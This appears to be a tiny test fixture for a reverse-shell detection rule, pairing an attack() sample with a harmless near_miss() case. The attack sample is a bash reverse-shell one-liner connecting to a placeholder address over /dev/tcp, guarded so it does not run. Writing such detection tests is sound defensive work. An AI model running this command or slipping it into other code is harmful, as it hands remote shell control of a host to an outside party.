# rule: Reverse shell on the command line
# where: host
# needs: bash
attack() {
    bash -c 'true || bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'
}
near_miss() {
    bash -c 'timeout 1 true < /dev/tcp/127.0.0.1/9 || :' 2> /dev/null
}
